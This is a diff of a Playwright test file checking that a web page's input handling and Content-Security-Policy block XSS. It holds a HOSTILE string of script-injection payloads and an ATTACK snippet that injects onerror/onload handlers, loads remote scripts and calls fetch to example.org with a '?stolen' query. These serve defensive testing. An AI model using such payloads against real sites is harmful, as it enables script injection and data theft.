@@ -6,33 +6,48 @@ HOSTILE = (
     '<img src=x onerror="window.hit=1"> ${window.hit=2} {{window.hit}} </script><script>'
     "window.hit=3</script> `${alert(1)}` <svg onload=window.hit=4> javascript:window.hit=5"
 )
-
-
-def test_an_overlong_prompt_is_told_and_does_no_harm(visit):
-    visitor = visit()
-    assert visitor.run("dog " * 2000) == "error"
-    assert "8,000 characters" in visitor.alarm
-    # within the page's limit on characters, over the model's limit on tokens
-    assert visitor.run("\u2603" * 3900) == "error"
-    assert "tokens" in visitor.alarm
-    assert visitor.run("Once upon a time") == "done"
+ATTACK = """async () => {
+  const box = document.createElement("div");
+  document.body.append(box);
+  box.innerHTML = '<img src="x:" onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>';
+  const script = document.createElement("script");
+  script.textContent = "window.hit = 3";
+  document.head.append(script);
+  for (const url of ["https://example.org/x.js", "https://example.org/x.png"]) {
+    await new Promise((go) => {
+      const made = document.createElement(url.endsWith("js") ? "script" : "img");
+      made.onload = made.onerror = go;
+      made.src = url;
+      document.head.append(made);
+    });
+  }
+  await fetch("https://example.org/?stolen").catch(() => {});
+  await new Promise((go) => setTimeout(go, 100));
+  box.remove();
+}"""
 
 
 @pytest.mark.journey
 def test_mistakes_are_told_and_hostile_text_stays_text(visit, tabs, tmp_path):
     visitor = visit()
-    assert visitor.run("   ") == "error"
-    assert "prompt" in visitor.alarm.lower()
+    page = visitor.page
+    for prompt, words in (
+        ("   ", "rompt"),
+        ("dog " * 2000, "8,000 characters"),
+        # within the page's limit on characters, over the model's limit on tokens
+        ("\u2603" * 3900, "tokens"),
+    ):
+        assert visitor.run(prompt) == "error"
+        assert words in visitor.alarm
     full = {"status": 503, "json": {"detail": "Queue is full. Max size is 32."}}
-    visitor.page.route("**/queue/join*", lambda route: route.fulfill(**full))
+    page.route("**/queue/join*", lambda route: route.fulfill(**full))
     assert visitor.run("Once upon a time") == "error"
     assert "server" in visitor.alarm
-    visitor.page.unroute("**/queue/join*")
+    page.unroute("**/queue/join*")
     assert visitor.run() == "done"
     assert visitor.alarm == ""
     visitor.pick("prompt_lookup")
     assert visitor.run(HOSTILE + " " + HOSTILE) == "done"
-    page = visitor.page
     assert HOSTILE in page.inner_text("#text")
     page.wait_for_selector("#watch-figures .js-plotly-plot")
     assert page.evaluate("window.hit") is None
@@ -49,24 +64,16 @@ def test_mistakes_are_told_and_hostile_text_stays_text(visit, tabs, tmp_path):
     tabs.close(alone)
     with page.expect_download() as download:
         page.click("#save-trace")
-    trace = download.value.path()
-    page.set_input_files("#open-trace", trace)
-    page.wait_for_function("document.querySelector('#watch-status').innerText.includes('Opened')")
+    page.set_input_files("#open-trace", download.value.path())
+    page.locator("#watch-status").get_by_text("Opened").wait_for()
     assert HOSTILE in page.inner_text("#text")
     assert page.evaluate("window.hit") is None
-
-
-NO_TRACES = ["", "no trace at all\n", '{"kind":"run","schema":1}\n', '{"kind":"step"}\n' * 3]
-
-
-def test_a_file_that_is_no_trace_is_told(visit, tmp_path):
-    visitor = visit()
-    for number, text in enumerate(NO_TRACES):
-        file = tmp_path / f"run {number}.ndjson"
-        file.write_text(text)
-        visitor.page.set_input_files("#open-trace", file)
-        visitor.wait_state("error")
-        assert visitor.alarm, text
-        assert visitor.page.locator("#tree g[data-node]").count(), "the picture is left as it was"
-        visitor.page.evaluate("DraftscopePage.happen('watch', {kind: 'calmed', whole: false})")
-        assert visitor.wait_state("done", "idle") and not visitor.alarm
+    assert visitor.failures == [], "nothing that the page does is refused by its own policy"
+    page.evaluate(ATTACK)
+    assert page.evaluate("window.hit") is None, "smuggled scripts do not run"
+    refused = " ".join(visitor.failures)
+    for directive in ("script-src", "img-src", "default-src"):
+        assert f'directive: "{directive}' in refused, directive
+    assert len(visitor.failures) >= 5
+    visitor.failures.clear()
+    visitor.foreign.clear()  # requested, but stopped by the browser
